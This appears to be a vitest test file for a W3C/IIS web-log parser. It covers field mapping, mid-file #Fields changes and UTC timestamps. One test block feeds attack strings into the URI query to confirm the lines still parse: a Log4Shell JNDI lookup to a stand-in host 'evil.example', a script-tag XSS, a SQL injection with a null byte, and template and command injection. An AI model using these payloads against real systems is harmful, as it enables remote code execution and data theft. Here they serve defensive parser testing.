import { describe, expect, it } from 'vitest';
import { w3c } from '../../../src/parsers/formats/w3c.ts';
import { makeCtx, parseOk } from '../../harness/parsers.ts';

describe('w3c cases', () => {
  const cases: { name: string; input: string; expected: Record<string, string | number> }[] = [
    { name: 'no #Fields: IIS default', input: '2019-03-04 05:06:07 192.168.1.5 GET / - 80 - 198.51.100.4 - - 404 0 2 0', expected: { outcome: 'failure', 'init.host.ip': '198.51.100.4' } },
  ];
  for (const c of cases) it(c.name, () => expect(parseOk(w3c, c.input)).toMatchObject(c.expected));
  const refused: string[] = [
    '2019-03-04 05:06:07 too few fields',
    '#Fields: date time',
  ];
  for (const r of refused) it(`refuses ${JSON.stringify(r.slice(0, 40))}`, () => expect(w3c.parse(r, makeCtx()).ok).toBe(false));
});

describe('w3c #Fields state', () => {
  it('follows a #Fields change mid-file', () => {
    const ctx = makeCtx();
    expect(w3c.isMeta?.('#Software: Microsoft Internet Information Services 10.0', ctx)).toBe(true);
    expect(w3c.isMeta?.('#Fields: date time c-ip cs-method cs-uri-stem sc-status', ctx)).toBe(true);
    expect(parseOk(w3c, '2024-01-01 00:00:01 10.0.0.1 GET /a 200', ctx)).toMatchObject({ 'init.host.ip': '10.0.0.1', 'target.uri.path': '/a', 'web.request.rc': 200 });
    expect(w3c.isMeta?.('#Fields: date time cs-username c-ip sc-status', ctx)).toBe(true);
    expect(parseOk(w3c, '2024-01-01 00:00:02 bob 10.0.0.2 500', ctx)).toMatchObject({ 'init.usr.name': 'bob', 'init.host.ip': '10.0.0.2', outcome: 'failure' });
    expect(w3c.isMeta?.('2024-01-01 00:00:02 bob 10.0.0.2 500', ctx)).toBe(false);
  });
  it('ignores the file zone (W3C times are UTC)', () => {
    const ctx = makeCtx({ time: { tzOffsetMinutes: 120 } });
    w3c.isMeta?.('#Fields: date time c-ip', ctx);
    expect(parseOk(w3c, '2024-01-01 00:00:00 10.0.0.1', ctx).ts).toBe(Date.UTC(2024, 0, 1));
  });
});

describe('w3c: attack payloads in the URI never make a line unparsed', () => {
  const payloads: [string, string][] = [
    ['log4shell in the query', 'x=${jndi:ldap://evil.example/a}'],
    ['a fragment and a script', 'q=<script>alert(1)</script>#frag'],
    ['quotes and %00', "id=1'%20or%201=1--%00\"x"],
    ['braces and dollars', '{{7*7}}$(id)'],
    ['a literal tab', 'a=1\tb=2'],
  ];
  for (const [name, query] of payloads) {
    it(name, () => {
      const line = `2024-01-02 10:11:12 10.0.0.10 GET /index.php ${query} 443 - 203.0.113.7 Mozilla/5.0 - 404 0 0 15`;
      expect(parseOk(w3c, line)).toMatchObject({ 'target.uri.query': query, 'init.host.ip': '203.0.113.7', 'web.request.rc': 404 });
    });
  }
  it('a line starting with "#" in a payload position is still a directive only at the line start', () => {
    const ctx = makeCtx();
    expect(w3c.isMeta?.('2024-01-02 10:11:12 10.0.0.10 GET /#/admin - 443 - 203.0.113.7 - - 200 0 0 1', ctx)).toBe(false);
  });
  it('tab-separated lines and "quoted values" with spaces', () => {
    const tabbed = ['2024-01-02', '10:11:12', '10.0.0.10', 'GET', '/a b', 'x=1 y', '443', '-', '203.0.113.7', 'Mozilla/5.0 (X11)', '-', '200', '0', '0', '1'].join('\t');
    expect(parseOk(w3c, tabbed)).toMatchObject({ 'target.uri.path': '/a b', 'web.header.user_agent': 'Mozilla/5.0 (X11)' });
    const quoted = '2024-01-02 10:11:12 10.0.0.10 GET /a - 443 - 203.0.113.7 "Mozilla/5.0 (Windows NT 10.0)" - 200 0 0 1';
    expect(parseOk(w3c, quoted)).toMatchObject({ 'web.header.user_agent': 'Mozilla/5.0 (Windows NT 10.0)' });
  });
});
